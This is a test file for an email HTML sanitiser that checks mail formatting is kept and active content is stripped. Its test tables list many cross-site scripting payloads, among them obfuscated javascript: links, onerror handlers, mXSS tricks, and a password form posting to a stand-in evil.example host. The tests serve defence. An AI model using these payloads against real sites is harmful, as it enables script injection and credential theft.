import { expect, test } from 'vitest'
import { sanitiseEmailHtml } from '../../../../../server/channels/email/sanitise-html.ts'

/** Whatever went in, nothing active comes out: no script, handler, frame, form, base, meta or style sheet. */
function expectInert(html: string): void {
  expect(html).not.toMatch(/<\s*(script|style|iframe|frame|object|embed|form|base|meta|link|svg|math|input|button)/i)
  expect(html).not.toMatch(/\son[a-z]+\s*=/i)
  expect(html).not.toMatch(/javascript:|vbscript:|expression\s*\(|url\s*\(|behavior|-moz-binding/i)
  // Sanitising twice changes nothing: the output holds no half-tag that a second parse would complete.
  expect(sanitiseEmailHtml(html)).toBe(html)
}

test('keeps mail formatting, tables, lists and plain styles', () => {
  const html =
    '<p style="color:#333;font-size:14px">Hello <b>Dana</b>, <i>thanks</i></p>' +
    '<table border="0" cellpadding="4"><tr><td align="right" style="background-color:rgb(240, 240, 240)">1</td></tr></table>' +
    '<ul><li>one</li></ul><blockquote>quoted</blockquote><font color="red">old</font>'
  expect(sanitiseEmailHtml(html)).toBe(html)
  expect(sanitiseEmailHtml('<p style="color: #333; font-size: 14px">x</p>')).toBe('<p style="color:#333;font-size:14px">x</p>')
})

test('links open apart from the app, without referrer, and only to web, mail and phone addresses', () => {
  expect(sanitiseEmailHtml('<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">x</a>')).toBe(
    '<a rel="noopener noreferrer nofollow" target="_blank" href="https://example.com/a?b=1&amp;c=2">x</a>',
  )
  expect(sanitiseEmailHtml('<a href="mailto:dana@example.org">mail</a>')).toContain('href="mailto:dana@example.org"')
  expect(sanitiseEmailHtml('<a href="/relative">r</a>')).toBe('<a rel="noopener noreferrer nofollow" target="_blank">r</a>')
})

test.each([
  ['plain', '<a href="javascript:alert(1)">x</a>'],
  ['upper case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['hex entities without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
  ['named colon entity', '<a href="javascript&colon;alert(1)">x</a>'],
  ['embedded tab', '<a href="jav\tascript:alert(1)">x</a>'],
  ['encoded tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['encoded newline', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['leading control characters', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data URL', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
])('a javascript: link is removed (%s)', (_name, html) => {
  const out = sanitiseEmailHtml(html)
  expect(out).toBe('<a rel="noopener noreferrer nofollow" target="_blank">x</a>')
})

test.each([
  ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['split script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script in uppercase with attributes', '<SCRIPT type="text/javascript" SRC="//evil.example/x.js"></SCRIPT>'],
  ['body onload', '<body onload="alert(1)"><p>hi</p></body>'],
  ['event handler after a slash', '<p/onmouseover=alert(1)>hover</p>'],
  ['style expression', '<div style="width: expression(alert(1))">x</div>'],
  ['style url', '<div style="background-image: url(javascript:alert(1)); color: red">x</div>'],
  ['style with escapes', '<div style="color: \\65 xpression(alert(1))">x</div>'],
  ['behaviour and binding', '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#y)">x</div>'],
  ['style element', '<style>@import "https://evil.example/t.css"; body{background:url(https://t.example/p)}</style><p>x</p>'],
  ['base', '<base href="https://evil.example/"><a href="x">x</a>'],
  ['form', '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>'],
  ['iframe', '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['object and embed', '<object data="x.swf"><embed src="x.swf"></object>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['nested comments', '<!-- <!-- --> <script>alert(1)</script> --><p>x</p>'],
  ['conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>'],
  ['comment closing inside an attribute', '<p title="--><script>alert(1)</script>">x</p>'],
  ['cdata', '<![CDATA[<script>alert(1)</script>]]><p>x</p>'],
  ['math with href', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['mxss via noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['unclosed attribute', '<img src="https://t.example/p.gif" alt="x onerror=alert(1)'],
  ['data-remote-src smuggled in', '<img data-remote-src="javascript:alert(1)">'],
])('nothing active survives: %s', (_name, html) => {
  expectInert(sanitiseEmailHtml(html))
})

test('what is left of a split script tag is escaped text', () => {
  expect(sanitiseEmailHtml('<scr<script>ipt>alert(1)</scr</script>ipt>')).toBe('ipt&gt;alert(1)ipt&gt;')
})

test('a style declaration that is not plain is dropped, the plain ones stay', () => {
  expect(sanitiseEmailHtml('<div style="background-image: url(https://t.example/p); color: red">x</div>')).toBe(
    '<div style="color:red">x</div>',
  )
})

test('a form keeps its visible text only', () => {
  expect(sanitiseEmailHtml('<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>')).toBe(
    'Sign in',
  )
})

test('a remote image is not loaded: its address moves to data-remote-src', () => {
  expect(sanitiseEmailHtml('<img src="https://t.example/open.gif?u=42" width="1" height="1" alt="">')).toBe(
    '<img alt="" width="1" height="1" data-remote-src="https://t.example/open.gif?u=42" />',
  )
  expect(sanitiseEmailHtml('<img src="//t.example/p.gif">')).toBe('<img data-remote-src="https://t.example/p.gif" />')
  expect(sanitiseEmailHtml('<img src="x" srcset="https://t.example/p.gif 1x">')).toBe('<img />')
  expect(sanitiseEmailHtml('<td background="https://t.example/bg.gif">x</td>')).not.toContain('t.example')
})

test('an inline cid: image and a data: image are kept; other data: URLs are not', () => {
  expect(sanitiseEmailHtml('<img src="cid:logo@acme">')).toBe('<img src="cid:logo@acme" />')
  expect(sanitiseEmailHtml('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe(
    '<img src="data:image/png;base64,iVBORw0KGgo=" />',
  )
  expect(sanitiseEmailHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe('<img />')
  expect(sanitiseEmailHtml('<img src="data:text/html,<script>alert(1)</script>">')).toBe('<img />')
})

test('a page title and Office XML islands do not leak into the text', () => {
  const out = sanitiseEmailHtml(
    '<html><head><title>Newsletter</title><xml><o:x>1</o:x></xml></head><body><p>Hi</p></body></html>',
  )
  expect(out).toBe('<p>Hi</p>')
})
